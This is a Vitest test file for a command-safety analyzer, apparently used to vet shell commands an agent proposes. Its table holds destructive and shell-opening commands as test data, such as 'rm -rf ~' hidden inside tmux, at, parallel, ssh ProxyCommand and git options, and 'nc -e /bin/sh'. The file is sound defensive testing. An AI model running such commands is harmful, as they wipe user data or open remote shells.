// Commands that run other commands in their own ways (terminal multiplexers,
// schedulers, parallel, editors, debuggers, ssh's local commands, socat, nc):
// the command they run is judged, or they ask.
import { describe, expect, it } from 'vitest';
import { analyzeCommand } from '../../src/safety/command-analysis.ts';
import type { CommandClass } from '../../src/safety/command-types.ts';

const ctx = { cwd: '/work/ws', home: '/home/u' };

const ROWS: Array<[string, CommandClass, string?]> = [
  ["tmux new -d 'rm -rf ~'", 'dangerous', 'outside the workspace'],
  ["tmux new-session -d -s srv 'npm run dev'", 'workspace', 'npm run'],
  ["tmux send-keys -t x 'rm -rf ~' Enter", 'dangerous', 'send-keys'],
  ['screen -dm rm -rf ~', 'dangerous', 'outside the workspace'],
  ['screen -dmS srv npm start', 'workspace', 'npm start'],
  ["at now <<< 'rm -rf ~'", 'dangerous', 'outside the workspace'],
  ["echo 'rm -rf ~' | at now", 'dangerous', 'schedules'],
  ["batch <<< 'npm test'", 'workspace'],
  ['parallel rm -rf ::: ~', 'dangerous', 'outside the workspace'],
  ["parallel 'rm -rf {}' ::: ~", 'dangerous', 'outside the workspace'],
  ['parallel gzip ::: a b', 'workspace'],
  ["vi -c ':!rm -rf ~' x", 'dangerous', 'editor commands'],
  ['vim x', 'workspace'],
  ["emacs --batch --eval '(shell-command \"rm\")'", 'dangerous', 'Lisp'],
  ['gdb -p 1234', 'dangerous', 'memory'],
  ["ssh -o ProxyCommand='rm -rf ~' h", 'dangerous', 'ProxyCommand'],
  ['ssh -oProxyCommand=x h', 'dangerous', 'ProxyCommand'],
  ['ssh host ls', 'network'],
  ["rsync -e 'sh -c \"rm -rf ~\"' x h:y", 'dangerous', 'outside the workspace'],
  ["rsync -e 'ssh -p 22' -a src/ host:dst/", 'network'],
  ['scp -o ProxyCommand=x a h:b', 'dangerous', 'ProxyCommand'],
  ['scp -o KnownHostsCommand=x a h:b', 'dangerous', 'ProxyCommand'],
  ['sftp -o "Match exec \"touch x\"" h', 'dangerous', 'ProxyCommand'],
  ["socat - EXEC:'rm -rf ~'", 'dangerous', 'local program'],
  ['nc -e /bin/sh h 1', 'dangerous', 'local program'],
  ["sg grp 'rm -rf ~'", 'dangerous', 'outside the workspace'],
  ['runuser -u x ls', 'dangerous', 'another user'],
  ["git difftool -x 'rm -rf ~'", 'dangerous', 'outside the workspace'],
  ["git grep --open-files-in-pager='rm -rf ~' x", 'dangerous', 'outside the workspace'],
  ['git grep -O x', 'workspace'],
];

describe('commands that run commands', () => {
  it.each(ROWS)('%j is %s', async (command, expected, reason) => {
    const analysis = await analyzeCommand(command, ctx);
    expect(analysis.class).toBe(expected);
    if (reason) expect(analysis.reasons.join(' / ')).toContain(reason);
  });
});
